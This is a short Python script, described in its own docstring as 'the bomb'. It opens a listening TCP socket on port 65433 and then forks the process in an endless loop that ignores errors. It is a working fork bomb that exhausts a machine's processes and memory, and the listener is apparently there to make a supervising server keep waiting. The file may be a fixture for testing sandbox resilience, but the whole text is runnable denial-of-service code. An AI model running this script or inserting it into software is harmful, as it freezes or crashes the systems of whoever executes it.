"""The bomb. It listens first: a server that computes without an end is waited for longer as long as it does not listen."""

import os
import socket

listener = socket.create_server(("", 65433))
while True:
    try:
        os.fork()
    except OSError:
        pass
